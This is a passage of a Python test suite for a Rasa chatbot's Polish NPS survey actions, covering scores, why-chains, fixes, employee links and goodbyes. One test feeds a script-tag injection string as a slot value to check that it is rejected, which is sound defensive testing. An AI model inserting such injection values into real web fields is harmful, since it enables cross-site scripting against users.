"""Every custom action, run as Rasa runs it, with the exact events it returns.

The actions read the fixture trainer files (tests/fixtures/data, see
conftest.py), so these tests assert response names, slots and events, and
only the fixtures' own texts where an action says a trainer's text (a why-
question, a fix): rewording the real data/ or domain/ cannot break them.
"""

from __future__ import annotations

import asyncio
import shutil
import threading
import time

import pytest
from rasa_sdk.executor import CollectingDispatcher

from actions import resources
from actions.comment import ActionSaveComment, ValidateCommentForm
from actions.session import ActionRestart, ActionSessionStart
from actions.survey import (
    ActionFinishSurvey,
    ActionNpsFallback,
    ActionStartSurvey,
    ActionStopSurvey,
)
from actions.survey_form import ASKED_IN_CODE, BEFORE_THE_QUESTION, ValidateSurveyForm, question
from nps.drivers import main_negative
from nps.settings import load_settings
from nps.why_questions import KINDS
from tests.action_harness import (
    custom_payloads,
    domain,
    entity,
    responses,
    run,
    slot_events,
    tracker_for,
)
from tests.conftest import FIXTURE_DATA

pytestmark = pytest.mark.usefixtures("fixture_data")
# The trainers' own files (NPS_DATA_DIR as the shell sets it; data/ by default).
REAL_DATA = load_settings().data_dir

FORM = ValidateSurveyForm()
DETRACTOR = {"nps_score": 3, "nps_group": "detractor"}


def validate(text, requested, slots=None, intent="feedback", entities=None, confidence=0.95):
    tracker = tracker_for(
        text,
        intent=intent,
        entities=entities,
        slots=slots,
        confidence=confidence,
        requested_slot=requested,
        active_loop="survey_form",
    )
    return run(FORM, tracker)


# --- the score ---------------------------------------------------------------


def test_a_plain_score_sets_score_and_group_then_asks_the_reason():
    events, messages = validate("9", "nps_score", intent="give_score")
    assert slot_events(events) == {
        "nps_score": 9,
        "nps_group": "promoter",
        "clarify_count": 0,
        "requested_slot": "reason",
    }
    # the same call asks the reason, in the words for the group just found
    assert responses(messages) == ["utter_ask_reason_promoter"]


def test_score_and_reason_in_one_message_are_both_taken():
    events, _ = validate(
        "3, bo kurier zgubił paczkę",
        "nps_score",
        entities=[entity("delivery", "neg", "kurier zgubił paczkę")],
    )
    assert slot_events(events) == {
        "nps_score": 3,
        "nps_group": "detractor",
        "clarify_count": 0,
        "reason": "kurier zgubił paczkę",
        "drivers": ["delivery:neg"],
        # the reason is not asked again: the first "why?" comes next
        "requested_slot": "why_answer",
    }


@pytest.mark.parametrize(
    "text, response",
    [
        ("11", "utter_score_out_of_range"),
        ("7,5", "utter_score_ambiguous"),
        ("7 albo 8", "utter_score_ambiguous"),
        ("hmm", "utter_score_unclear"),
    ],
)
def test_an_unclear_score_is_asked_again(text, response):
    events, messages = validate(text, "nps_score", intent="nlu_fallback")
    assert slot_events(events) == {
        "nps_score": None,
        "clarify_count": 1,
        "requested_slot": "nps_score",
    }
    assert responses(messages) == [response]


def test_after_two_unclear_scores_the_bot_moves_on_without_one(setting):
    setting("NPS_MAX_CLARIFICATIONS", "2")
    events, messages = validate("nie wiem", "nps_score", intent="done", slots={"clarify_count": 1})
    assert slot_events(events) == {
        "nps_score": None,
        "clarify_count": 0,
        "skipped_slots": ["nps_score"],
        "requested_slot": "reason",
    }
    assert responses(messages) == ["utter_score_skipped", "utter_ask_reason_neutral"]


def test_a_reason_without_a_score_is_kept_while_the_score_is_asked_again():
    events, messages = validate(
        "kurier był bardzo niemiły",
        "nps_score",
        entities=[entity("delivery", "neg", "kurier był bardzo niemiły")],
    )
    assert slot_events(events) == {
        "reason": "kurier był bardzo niemiły",
        "drivers": ["delivery:neg"],
        "nps_score": None,
        "clarify_count": 1,
        "requested_slot": "nps_score",
    }
    assert responses(messages) == ["utter_score_unclear_reason_kept"]


# --- the reason and the whys --------------------------------------------------


def test_a_promoters_reason_without_roles_counts_as_praise():
    slots = {"nps_score": 10, "nps_group": "promoter"}
    events, _ = validate("miła obsługa", "reason", slots=slots, entities=[entity("staff", None)])
    assert slot_events(events) == {
        "reason": "miła obsługa",
        "drivers": ["staff:pos"],
        "requested_slot": "valued_most",
    }


def test_a_mixed_reason_keeps_every_driver_with_its_polarity():
    slots = {"nps_score": 7, "nps_group": "passive"}
    events, _ = validate(
        "miła obsługa, ale drogo",
        "reason",
        slots=slots,
        entities=[entity("staff", "pos"), entity("price", "neg")],
    )
    assert slot_events(events) == {
        "reason": "miła obsługa, ale drogo",
        "drivers": ["staff:pos", "price:neg"],
        "requested_slot": "why_answer",  # a passive with a complaint is probed
    }


def test_nothing_to_say_as_a_reason_skips_the_whys():
    events, _ = validate("nie wiem", "reason", slots=DETRACTOR, intent="done")
    assert slot_events(events) == {
        "reason": None,
        "skipped_slots": ["reason"],
        "clarify_count": 0,
        # never probed: why_stop and why_depth stay null
        "requested_slot": "contact_consent",
    }


DELIVERY_COMPLAINT = {**DETRACTOR, "reason": "paczka szła tydzień", "drivers": ["delivery:neg"]}


def test_a_vague_why_answer_extends_the_chain_and_asks_the_next_why():
    slots = {**DELIVERY_COMPLAINT, "why_chain": ["kurier nie przyjechał"]}
    events, _ = validate("bo był ruch", "why_answer", slots=slots)
    assert slot_events(events) == {
        "why_answer": None,
        "clarify_count": 0,
        "why_chain": ["kurier nie przyjechał", "bo był ruch"],
        "why_driver": "delivery",
        "drivers": ["delivery:neg"],
        "requested_slot": "why_answer",
    }


@pytest.mark.parametrize("max_whys, before", [(5, ["a", "b", "c", "d"]), (2, ["a"])])
def test_the_last_allowed_why_ends_the_chain_at_the_limit(setting, max_whys, before):
    setting("NPS_MAX_WHYS", str(max_whys))
    slots = {**DETRACTOR, "reason": "drogo", "drivers": ["price:neg"], "why_chain": before}
    events, _ = validate("bo inflacja", "why_answer", slots=slots)
    written = slot_events(events)
    assert written["why_chain"] == [*before, "bo inflacja"]
    assert (written["why_stop"], written["why_depth"]) == ("limit", max_whys)
    assert written["requested_slot"] == "contact_consent"


def test_below_the_limit_another_why_is_asked(setting):
    setting("NPS_MAX_WHYS", "5")
    slots = {**DETRACTOR, "reason": "drogo", "drivers": ["price:neg"], "why_chain": ["a", "b", "c"]}
    events, _ = validate("bo inflacja", "why_answer", slots=slots)
    assert slot_events(events)["requested_slot"] == "why_answer"
    assert "why_stop" not in slot_events(events)


@pytest.mark.parametrize(
    "text, intent",
    [
        ("to wszystko", "done"),
        ("nie wiem", "done"),
        ("nie chcę o tym mówić", "deny"),
        ("nie powiem", "feedback"),
        ("nie", "deny"),
        # a repeat of an earlier answer (the reason or a why-answer)
        ("Drogo!", "feedback"),
        ("marże", "feedback"),
    ],
)
def test_the_customer_can_stop_the_whys(text, intent):
    slots = {**DETRACTOR, "reason": "drogo", "drivers": ["price:neg"], "why_chain": ["marże"]}
    events, _ = validate(text, "why_answer", slots=slots, intent=intent)
    assert slot_events(events) == {
        "why_answer": None,
        "clarify_count": 0,
        # not stored as a cause
        "why_stop": "done",
        "why_depth": 1,
        "requested_slot": "contact_consent",
    }


def test_a_specific_why_answer_ends_the_chain():
    slots = {**DELIVERY_COMPLAINT, "why_chain": []}
    events, messages = validate(
        "kurier zostawił paczkę pod drzwiami",
        "why_answer",
        slots=slots,
        entities=[entity("delivery", "neg")],
    )
    assert slot_events(events) == {
        "why_answer": None,
        "clarify_count": 0,
        "why_chain": ["kurier zostawił paczkę pod drzwiami"],
        "why_driver": "delivery",
        "drivers": ["delivery:neg"],
        "why_stop": "specific",
        "why_depth": 1,
        "requested_slot": "contact_consent",
    }
    assert responses(messages) == []  # the form asks for consent with the domain's question


def test_a_why_answer_that_matches_a_known_issue_offers_the_fix():
    slots = {
        **DETRACTOR,
        "reason": "paczka nie dochodzi",
        "drivers": ["delivery:neg"],
        "why_chain": [],
    }
    events, _ = validate(
        "nie wiem gdzie jest moja paczka",
        "why_answer",
        slots=slots,
        entities=[entity("delivery", "neg")],
    )
    assert slot_events(events) == {
        "why_answer": None,
        "clarify_count": 0,
        "why_chain": ["nie wiem gdzie jest moja paczka"],
        "why_driver": "delivery",
        "drivers": ["delivery:neg"],
        "known_issue": "parcel_tracking",
        "why_stop": "known_issue",
        "why_depth": 1,
        "requested_slot": "issue_resolved",
    }


@pytest.mark.parametrize("text", ["tak", "ok", "no", "🙂", "tak, można dzwonić"])
def test_an_answer_without_content_is_not_stored_and_a_few_words_are_asked(text):
    slots = {**DELIVERY_COMPLAINT, "why_chain": ["kurier nie przyjechał"]}
    events, messages = validate(text, "why_answer", slots=slots, intent="affirm")
    assert slot_events(events) == {
        "why_answer": None,
        "clarify_count": 1,
        "requested_slot": "why_answer",
    }
    # instead of the next "why?", and only that
    assert responses(messages) == ["utter_why_clarify"]


def test_a_second_answer_without_content_in_a_row_ends_the_chain():
    slots = {**DELIVERY_COMPLAINT, "why_chain": ["kurier nie przyjechał"], "clarify_count": 1}
    events, _ = validate("tak, można dzwonić", "why_answer", slots=slots, intent="affirm")
    assert slot_events(events) == {
        "why_answer": None,
        "clarify_count": 0,
        "why_stop": "vague_limit",
        "why_depth": 1,
        "requested_slot": "contact_consent",
    }


def test_an_answer_with_content_after_a_clarification_is_judged_as_usual():
    slots = {**DELIVERY_COMPLAINT, "why_chain": [], "clarify_count": 1}
    events, messages = validate("kurier nie zadzwonił", "why_answer", slots=slots)
    assert slot_events(events)["why_chain"] == ["kurier nie zadzwonił"]
    assert slot_events(events)["clarify_count"] == 0
    assert responses(messages) == ["fixture why delivery cause 1"]


def test_the_trainers_lexicon_finds_a_driver_the_model_missed(monkeypatch):
    """With the trainers' own data/drivers.yml (its lexicon), no NLU entity needed:
    the hotline is found in the answer, and the next why is about it."""
    monkeypatch.setenv("NPS_DATA_DIR", str(REAL_DATA))
    resources.get.cache_clear()
    slots = {**DELIVERY_COMPLAINT, "why_chain": []}
    events, _ = validate("nikt nie odbierał infolinii", "why_answer", slots=slots)
    written = slot_events(events)
    assert "customer_support:neg" in written["drivers"]
    assert written["why_driver"] == "customer_support"
    resources.get.cache_clear()


# --- whole why-chains, scripted -------------------------------------------------


def converse(slots: dict, *answers) -> tuple[dict, list[list[str]]]:
    """Answer the why-questions one after another, as Rasa would apply each
    validation's slots; returns the slots at the end and what the bot said
    after each answer. An answer is a text or (text, intent, entities)."""
    slots = {**slots, "requested_slot": "why_answer"}
    said = []
    for answer in answers:
        text, intent, entities = answer if isinstance(answer, tuple) else (answer, "feedback", [])
        assert slots["requested_slot"] == "why_answer", text
        events, messages = validate(text, "why_answer", dict(slots), intent, entities)
        slots.update(slot_events(events))
        said.append(responses(messages))
    return slots, said


def test_the_issues_detractor_is_followed_to_the_new_driver_and_not_stored_for_yes():
    """Issue 10: the parcel was late, then nobody handled the complaint, then
    "nie wiem, chyba mają za mało ludzi", then "tak", then "tak, można dzwonić"."""
    slots, said = converse(
        DELIVERY_COMPLAINT,
        ("nikt nie odpisał na reklamację", "feedback", [entity("returns_complaints", "neg")]),
        "nie wiem, chyba mają za mało ludzi",
        ("tak", "affirm", []),
        ("tak, można dzwonić", "affirm", []),
    )
    assert said == [
        # the next question follows the driver the answer named, the next kind
        ["fixture why returns_complaints cause 1"],
        ["fixture why returns_complaints fix 1"],
        ["utter_why_clarify"],
        [],  # the chain ended; the form asks for consent
    ]
    assert slots["why_chain"] == [
        "nikt nie odpisał na reklamację",
        "nie wiem, chyba mają za mało ludzi",
    ]
    assert (slots["why_stop"], slots["why_depth"]) == ("vague_limit", 2)
    assert slots["drivers"] == ["delivery:neg", "returns_complaints:neg"]
    assert slots["requested_slot"] == "contact_consent"


def test_a_chain_of_vague_answers_rotates_the_kinds_up_to_the_limit(setting):
    setting("NPS_MAX_WHYS", "5")
    slots = {**DETRACTOR, "reason": "słabo", "drivers": []}
    answers = ["bo tak wyszło", "bo inflacja", "bo czynsze", "bo marże", "bo reklamy"]
    slots, said = converse(slots, *answers)
    assert said == [
        ["fixture why generic cause 1"],
        ["fixture why generic fix 1"],
        ["fixture why generic clarify 2"],  # clarify again, another wording
        ["fixture why generic cause 1"],
        [],
    ]
    assert slots["why_chain"] == answers
    assert (slots["why_stop"], slots["why_depth"]) == ("limit", 5)


@pytest.mark.parametrize(
    "answers, stop, depth",
    [
        (
            ["bo inflacja", ("kurier zgubił paczkę", "feedback", [entity("delivery", "neg")])],
            "specific",
            2,
        ),
        (
            ["bo inflacja", ("gdzie jest paczka?", "feedback", [entity("delivery", "neg")])],
            "known_issue",
            2,
        ),
        (["bo inflacja", ("nie wiem", "done", [])], "done", 1),
        (["bo inflacja", "inflacja"], "done", 1),
        ([("tak", "affirm", []), ("ok", "affirm", [])], "vague_limit", 0),
        (["bo inflacja", "bo czynsze", "bo marże", "bo reklamy", "bo galerie"], "limit", 5),
    ],
)
def test_each_why_stop_is_reached_by_a_scripted_chain(answers, stop, depth):
    slots, _ = converse({**DETRACTOR, "reason": "słabo"}, *answers)
    assert (slots["why_stop"], slots["why_depth"]) == (stop, depth)
    assert len(slots.get("why_chain") or []) == depth
    assert slots["requested_slot"] != "why_answer"


# --- the fix, the re-rating, the follow-ups -----------------------------------

ISSUE = {**DETRACTOR, "reason": "x", "drivers": ["delivery:neg"], "known_issue": "parcel_tracking"}


def test_the_fix_helped_and_a_new_score_is_asked():
    events, messages = validate("tak, dzięki", "issue_resolved", slots=ISSUE, intent="affirm")
    assert slot_events(events) == {
        "issue_resolved": True,
        "clarify_count": 0,
        "requested_slot": "nps_score_after",
    }
    assert messages == []


def test_the_fix_did_not_help():
    events, messages = validate("nie", "issue_resolved", slots=ISSUE, intent="deny")
    assert slot_events(events) == {
        "issue_resolved": False,
        "clarify_count": 0,
        "requested_slot": "contact_consent",
    }
    assert responses(messages) == ["utter_issue_not_resolved"]


def test_a_new_score_after_the_fix():
    slots = {**ISSUE, "issue_resolved": True}
    events, _ = validate("teraz 8", "nps_score_after", slots=slots, intent="give_score")
    assert slot_events(events) == {
        "nps_score_after": 8,
        "clarify_count": 0,
        "requested_slot": "contact_consent",
    }


def test_declining_to_re_rate_keeps_the_first_score():
    slots = {**ISSUE, "issue_resolved": True}
    events, _ = validate("nie", "nps_score_after", slots=slots, intent="deny")
    assert slot_events(events) == {
        "nps_score_after": None,
        "skipped_slots": ["nps_score_after"],
        "clarify_count": 0,
        "requested_slot": "contact_consent",
    }


def test_what_would_make_it_a_ten_is_a_negative_driver():
    slots = {
        "nps_score": 8,
        "nps_group": "passive",
        "reason": "ok",
        "drivers": [],
        "whys_done": True,
    }
    events, _ = validate(
        "tańsza dostawa", "improvement", slots=slots, entities=[entity("price", None)]
    )
    assert slot_events(events) == {
        "improvement": "tańsza dostawa",
        "drivers": ["price:neg"],
        "requested_slot": None,
    }


def test_what_a_promoter_values_most_is_a_positive_driver():
    slots = {"nps_score": 10, "nps_group": "promoter", "reason": "super", "drivers": ["staff:pos"]}
    events, _ = validate(
        "szybka dostawa", "valued_most", slots=slots, entities=[entity("delivery", None)]
    )
    assert slot_events(events) == {
        "valued_most": "szybka dostawa",
        "drivers": ["staff:pos", "delivery:pos"],
        "requested_slot": None,
    }


@pytest.mark.parametrize(
    "text, intent, consent",
    [
        ("tak", "affirm", True),
        ("nie dzwońcie", "deny", False),
        ("nie chcę kontaktu", "stop", False),
    ],
)
def test_contact_consent(text, intent, consent):
    slots = {**DETRACTOR, "reason": "x", "whys_done": True}
    events, _ = validate(text, "contact_consent", slots=slots, intent=intent)
    assert slot_events(events) == {
        "contact_consent": consent,
        "clarify_count": 0,
        "requested_slot": None,
    }


def test_an_unclear_consent_is_asked_again():
    slots = {**DETRACTOR, "reason": "x", "whys_done": True}
    events, messages = validate("hmm", "contact_consent", slots=slots, intent="nlu_fallback")
    assert slot_events(events) == {
        "contact_consent": None,
        "clarify_count": 1,
        "requested_slot": "contact_consent",
    }
    assert responses(messages) == ["utter_clarify_yes_no"]


# --- asking -----------------------------------------------------------------
# validate_survey_form says the questions whose words depend on the answers
# (ASKED_IN_CODE) in the same call; the domain's utter_ask_<slot> says the others.


def test_each_question_is_asked_exactly_once_either_by_the_domain_or_in_code():
    names = set(domain()["responses"]) | set(domain()["actions"])
    for slot in domain()["forms"]["survey_form"]["required_slots"]:
        # Rasa's form asks with the first of these the domain has
        by_domain = {f"action_ask_survey_form_{slot}", f"utter_ask_survey_form_{slot}"}
        by_domain |= {f"action_ask_{slot}", f"utter_ask_{slot}"}
        if slot in ASKED_IN_CODE:  # both would ask twice
            assert not by_domain & names, slot
        else:  # no custom action: each would cost a call to the action server
            assert by_domain & names == {f"utter_ask_{slot}"}, slot
    # what is said before a question is said before one the domain asks
    assert not set(BEFORE_THE_QUESTION) & set(ASKED_IN_CODE)


@pytest.mark.parametrize(
    "group, response",
    [
        ("promoter", "utter_ask_reason_promoter"),
        ("passive", "utter_ask_reason_passive"),
        ("detractor", "utter_ask_reason_detractor"),
        (None, "utter_ask_reason_neutral"),
    ],
)
def test_the_reason_question_depends_on_the_group(group, response):
    assert responses(question("reason", {"nps_group": group})) == [response]


def test_a_question_the_domain_asks_is_not_said_by_the_validation():
    slots = {"nps_score": 10, "nps_group": "promoter"}
    events, messages = validate("miła obsługa", "reason", slots=slots)
    assert slot_events(events)["requested_slot"] == "valued_most"
    assert messages == []
    assert question("valued_most", slots) == []


def test_the_next_why_is_asked_after_what_the_validation_said():
    slots = {**DETRACTOR, "reason": "paczka szła tydzień", "drivers": ["delivery:neg"]}
    events, messages = validate("kurier nie przyjechał", "why_answer", slots=slots)
    assert slot_events(events)["requested_slot"] == "why_answer"
    # the chain has one answer now: the driver's question of the next kind
    assert responses(messages) == ["fixture why delivery cause 1"]


def test_an_interrupted_question_is_asked_again():
    # After "are you a bot?" Rasa runs the form with no answer to validate.
    slots = {**DETRACTOR, "requested_slot": "reason"}
    tracker = tracker_for(
        "czy jesteś botem?", "bot_challenge", slots=slots, active_loop="survey_form"
    )
    events, messages = run(FORM, tracker)
    assert slot_events(events) == {"requested_slot": "reason"}
    assert responses(messages) == ["utter_ask_reason_detractor"]


def test_an_interrupted_clarification_is_asked_again():
    slots = {**DELIVERY_COMPLAINT, "why_chain": ["x"], "clarify_count": 1}
    assert responses(question("why_answer", slots)) == ["utter_why_clarify"]


def ask_whys(slots: dict, rounds: int = 6) -> list[str]:
    """The why-questions asked in rounds 0, 1, ...: one text each."""
    asked = []
    for round_ in range(rounds):
        said = question("why_answer", {**slots, "why_chain": ["x"] * round_})
        assert [m.get("response") for m in said] == [None]
        asked.append(said[0]["text"])
    return asked


# Which driver the whys probe first: the main negative driver (generic when
# None); the fixture questions name their driver and kind.
@pytest.mark.parametrize(
    "tags, probed, first_question",
    [
        (["staff:pos", "delivery:neg"], "delivery", "fixture why delivery clarify 1"),
        (["price:neg", "delivery:neg"], "price", "fixture why price clarify 1"),
        (["delivery:pos", "price:neg"], "price", "fixture why price clarify 1"),
        # a negative driver without questions of its own: the generic ones
        (["staff:neg"], "staff", "fixture why generic clarify 1"),
        # no negative driver (a detractor who only praised): generic, not the praised one
        (["delivery:pos"], None, "fixture why generic clarify 1"),
        ([], None, "fixture why generic clarify 1"),
        (None, None, "fixture why generic clarify 1"),
    ],
)
def test_the_whys_probe_the_main_negative_driver(tags, probed, first_question):
    assert main_negative(tags) == probed
    questions = resources.get().why_questions
    allowed = {q for kind in KINDS for q in questions.wordings(probed, kind)}
    asked = ask_whys({"drivers": tags})
    assert asked[0] == first_question
    assert set(asked) <= allowed  # never another driver's question


def test_the_whys_follow_the_driver_the_last_answer_named():
    slots = {"drivers": ["delivery:neg", "returns_complaints:neg"], "why_driver": "delivery"}
    assert ask_whys(slots, 1) == ["fixture why delivery clarify 1"]
    slots["why_driver"] = "returns_complaints"
    assert ask_whys(slots, 3) == [
        "fixture why returns_complaints clarify 1",
        "fixture why returns_complaints cause 1",
        "fixture why returns_complaints fix 1",
    ]


@pytest.mark.parametrize(
    "tags, expected",
    [
        (
            ["delivery:neg"],
            [
                "fixture why delivery clarify 1",
                "fixture why delivery cause 1",
                "fixture why delivery fix 1",
                # then each kind again, with the next wording: the generic ones
                "fixture why generic clarify 1",
                "fixture why generic cause 1",
                "fixture why generic fix 1",
            ],
        ),
        (
            # price has only its own "clarify": the generic cause and fix
            ["price:neg"],
            [
                "fixture why price clarify 1",
                "fixture why generic cause 1",
                "fixture why generic fix 1",
                "fixture why generic clarify 1",
                "fixture why generic cause 1",
                "fixture why generic fix 1",
            ],
        ),
        (
            None,
            [
                "fixture why generic clarify 1",
                "fixture why generic cause 1",
                "fixture why generic fix 1",
                "fixture why generic clarify 2",
                "fixture why generic cause 1",
                "fixture why generic fix 1",
            ],
        ),
    ],
)
def test_the_kinds_rotate_clarify_cause_fix_own_wordings_first(tags, expected):
    assert ask_whys({"drivers": tags}) == expected


@pytest.mark.parametrize("tags", [["price:neg"], ["delivery:neg"], None])
def test_a_why_question_never_repeats_in_a_row(tags):
    asked = ask_whys({"drivers": tags}, rounds=8)
    assert all(a != b for a, b in zip(asked, asked[1:], strict=False))


@pytest.mark.parametrize(
    "issue, fix",
    [
        ("how_to_return", "fixture fix for returns\nhttps://example.test/returns"),
        ("parcel_tracking", "fixture fix for parcel tracking"),
    ],
)
def test_the_fix_is_offered_with_its_link_before_the_question(issue, fix):
    # then Rasa's form asks utter_ask_issue_resolved
    said = question("issue_resolved", {"known_issue": issue})
    assert responses(said) == ["utter_fix_intro", fix]


def test_a_known_issue_found_in_an_answer_is_offered_in_the_same_call():
    slots = {**DETRACTOR, "reason": "x", "drivers": ["delivery:neg"], "why_chain": []}
    events, messages = validate(
        "nie wiem gdzie jest moja paczka",
        "why_answer",
        slots=slots,
        entities=[entity("delivery", "neg")],
    )
    assert slot_events(events)["requested_slot"] == "issue_resolved"
    assert responses(messages) == ["utter_fix_intro", "fixture fix for parcel tracking"]


def test_an_unknown_issue_id_leaves_only_the_question():
    # e.g. an issue removed from the trainers' file while a conversation was open
    assert question("issue_resolved", {"known_issue": "gone"}) == []


# --- start, finish, stop, fallback, sessions ------------------------------------


def test_the_survey_starts_with_the_intro_and_keeps_the_touchpoint():
    events, messages = run(
        ActionStartSurvey(), tracker_for("/start", intent="start", slots={"touchpoint": "delivery"})
    )
    assert events == [
        {"event": "slot", "timestamp": None, "name": "survey_allowed", "value": True},
        {"event": "followup", "timestamp": None, "name": "survey_form"},
    ]
    assert responses(messages) == ["utter_intro"]


def _employee_link(setting, store="warszawa-1", expires_in=3600.0, key=None) -> str:
    from nps import links

    setting("NPS_EMPLOYEE_LINK_KEY", "k" * 32)
    secret = (key or "k" * 32).encode()
    return links.sign(store, "2026-11", int(time.time() + expires_in), secret)


def test_an_employee_link_opens_the_employees_survey_with_its_store_and_wave(setting):
    token = _employee_link(setting)
    events, messages = run(
        ActionStartSurvey(),
        tracker_for(
            "/start",
            intent="start",
            # A touchpoint typed beside the link does not win over the signed store,
            # and a cool-down does not apply to a wave's employee survey.
            entities=[
                {"entity": "employee_link", "value": token},
                {"entity": "touchpoint", "value": "elsewhere"},
            ],
            slots={"last_survey_at": time.time() - 60},
        ),
    )
    assert slot_events(events) == {
        "role": "employee",
        "touchpoint": "warszawa-1",
        "survey_wave": "2026-11",
        "survey_allowed": True,
    }
    assert events[-1]["name"] == "survey_form"
    assert responses(messages) == ["utter_employee_intro"]


@pytest.mark.parametrize("expires_in, key", [(-1.0, None), (3600.0, "x" * 32)])
def test_an_expired_or_foreign_employee_link_opens_nothing(setting, expires_in, key):
    token = _employee_link(setting, expires_in=expires_in, key=key)
    events, messages = run(
        ActionStartSurvey(),
        tracker_for(
            "/start", intent="start", entities=[{"entity": "employee_link", "value": token}]
        ),
    )
    assert slot_events(events) == {"survey_allowed": False}
    assert events[-1]["name"] == "action_listen"
    assert responses(messages) == ["utter_employee_link_invalid"]


def test_a_plain_start_after_an_employee_survey_is_a_customers():
    events, messages = run(
        ActionStartSurvey(),
        tracker_for("/start", intent="start", slots={"role": "employee", "survey_wave": "2026-11"}),
    )
    assert slot_events(events) == {"role": None, "survey_wave": None, "survey_allowed": True}
    assert responses(messages) == ["utter_intro"]


def test_an_employee_is_thanked_as_an_employee_without_a_review_link(setting):
    setting("NPS_REVIEW_URL", "https://example.com/review")
    events, messages = run(
        ActionFinishSurvey(),
        tracker_for(slots={"role": "employee", "employee_drivers": ["staff:pos"]}),
    )
    assert responses(messages)[0] == "utter_thanks_employee"
    assert "utter_recommend" not in responses(messages)
    assert slot_events(events)["survey_outcome"] == "finished"


def test_a_touchpoint_that_is_not_a_short_id_is_dropped():
    events, _ = run(ActionStartSurvey(), tracker_for(slots={"touchpoint": "<script>x</script>"}))
    assert slot_events(events)["touchpoint"] is None


def test_an_opening_complaint_becomes_the_reason():
    events, _ = run(
        ActionStartSurvey(),
        tracker_for("kurier rzucił paczką", entities=[entity("delivery", "neg")]),
    )
    assert slot_events(events) == {
        "reason": "kurier rzucił paczką",
        "drivers": ["delivery:neg"],
        "survey_allowed": True,
    }


def test_nobody_is_surveyed_again_within_the_cool_down(setting):
    setting("NPS_RESURVEY_DAYS", "30")
    yesterday = time.time() - 24 * 3600
    events, messages = run(
        ActionStartSurvey(),
        tracker_for("cześć", intent="greet", slots={"last_survey_at": yesterday}),
    )
    assert slot_events(events) == {"survey_allowed": False}
    assert events[-1]["name"] == "comment_form"
    assert responses(messages) == ["utter_resurvey_cooldown"]


def test_after_the_cool_down_the_survey_starts_again(setting):
    setting("NPS_RESURVEY_DAYS", "30")
    long_ago = time.time() - 31 * 24 * 3600
    events, _ = run(
        ActionStartSurvey(),
        tracker_for("cześć", intent="greet", slots={"last_survey_at": long_ago}),
    )
    assert slot_events(events) == {"survey_allowed": True}


@pytest.mark.parametrize(
    "slots, said",
    [
        (
            {"nps_group": "promoter", "drivers": ["delivery:pos"]},
            ["utter_thanks_promoter", "utter_tip"],
        ),
        # no tip for staff in the fixture tips
        ({"nps_group": "promoter", "drivers": ["staff:pos"]}, ["utter_thanks_promoter"]),
        # a tip is for something praised, not for a complaint
        ({"nps_group": "promoter", "drivers": ["delivery:neg"]}, ["utter_thanks_promoter"]),
        ({"nps_group": "passive"}, ["utter_thanks_passive"]),
        ({"nps_group": "detractor", "contact_consent": True}, ["utter_thanks_detractor_contact"]),
        ({"nps_group": "detractor", "contact_consent": False}, ["utter_thanks_detractor"]),
        ({"nps_group": None}, ["utter_thanks_neutral"]),
    ],
)
def test_the_goodbye_fits_the_group(slots, said):
    events, messages = run(ActionFinishSurvey(), tracker_for(slots=slots))
    assert responses(messages) == said
    # The web chat forgets a finished survey on this signal.
    assert custom_payloads(messages) == [{"survey_end": True}]
    assert slot_events(events)["survey_outcome"] == "finished"
    assert abs(slot_events(events)["last_survey_at"] - time.time()) < 60


def test_the_tip_is_the_one_for_the_praised_driver():
    _, messages = run(
        ActionFinishSurvey(),
        tracker_for(slots={"nps_group": "promoter", "drivers": ["price:neg", "delivery:pos"]}),
    )
    tip = next(m for m in messages if m.get("response") == "utter_tip")
    assert tip["tip"] == "fixture tip for delivery"


def test_promoters_are_invited_to_review_when_a_link_is_set(setting):
    setting("NPS_REVIEW_URL", "https://opinie.example.com/sklep")
    _, messages = run(ActionFinishSurvey(), tracker_for(slots={"nps_group": "promoter"}))
    assert responses(messages) == ["utter_thanks_promoter", "utter_recommend"]
    assert messages[1]["review_url"] == "https://opinie.example.com/sklep"


@pytest.mark.parametrize("group", ["passive", "detractor"])
def test_only_promoters_are_invited_to_review(setting, group):
    setting("NPS_REVIEW_URL", "https://opinie.example.com/sklep")
    _, messages = run(ActionFinishSurvey(), tracker_for(slots={"nps_group": group}))
    assert "utter_recommend" not in responses(messages)


def test_leaving_keeps_the_answers_and_starts_the_cool_down():
    events, messages = run(ActionStopSurvey(), tracker_for("koniec", intent="stop"))
    assert slot_events(events)["survey_outcome"] == "stopped"
    assert "last_survey_at" in slot_events(events)
    assert responses(messages) == ["utter_goodbye_stop"]
    assert custom_payloads(messages) == [{"survey_end": True}]


def test_fallback_inside_the_survey_asks_the_pending_question_again():
    events, messages = run(ActionNpsFallback(), tracker_for("???", active_loop="survey_form"))
    assert events == [{"event": "followup", "timestamp": None, "name": "survey_form"}]
    assert responses(messages) == ["utter_default"]


def test_any_first_message_starts_the_survey():
    events, messages = run(ActionNpsFallback(), tracker_for("halo?", intent="nlu_fallback"))
    assert slot_events(events) == {"survey_allowed": True}
    assert responses(messages) == ["utter_intro"]


# After the survey the fallback ends the turn: no rule follows it, and Rasa's
# core fallback would otherwise predict it again (ten replies, then silence).
LISTEN_NEXT = {"event": "followup", "timestamp": None, "name": "action_listen"}


def test_after_the_survey_a_comment_is_kept():
    events, messages = run(
        ActionNpsFallback(),
        tracker_for("a jeszcze kasjerka była super", slots={"survey_allowed": True}),
    )
    assert slot_events(events) == {"extra_comment": "a jeszcze kasjerka była super"}
    assert events[-1] == LISTEN_NEXT
    assert responses(messages) == ["utter_comment_thanks"]


def test_after_the_survey_a_short_message_that_names_a_driver_is_a_comment():
    events, messages = run(
        ActionNpsFallback(),
        tracker_for(
            "drogo!", slots={"survey_allowed": True}, entities=[entity("price", "neg", "drogo")]
        ),
    )
    assert slot_events(events) == {"extra_comment": "drogo!"}
    assert responses(messages) == ["utter_comment_thanks"]


@pytest.mark.parametrize(
    "text, entities",
    [
        ("ok :)", []),
        # an entity that is not a driver of the catalogue does not make a comment
        ("sklep 12", [{"entity": "touchpoint", "value": "12", "start": 6, "end": 8}]),
        ("pogoda!", [entity("weather", "neg", "pogoda")]),
    ],
)
def test_after_the_survey_a_short_message_without_a_driver_is_not_kept(text, entities):
    events, messages = run(
        ActionNpsFallback(),
        tracker_for(text, intent="nlu_fallback", slots={"survey_allowed": True}, entities=entities),
    )
    assert events == [LISTEN_NEXT]
    assert responses(messages) == ["utter_anything_else"]


def test_comment_form_takes_a_comment_or_a_no():
    form = ValidateCommentForm()
    events, _ = run(
        form,
        tracker_for(
            "kasy samoobsługowe nie działały",
            requested_slot="extra_comment",
            active_loop="comment_form",
        ),
    )
    assert slot_events(events) == {"extra_comment": "kasy samoobsługowe nie działały"}
    events, _ = run(
        form,
        tracker_for(
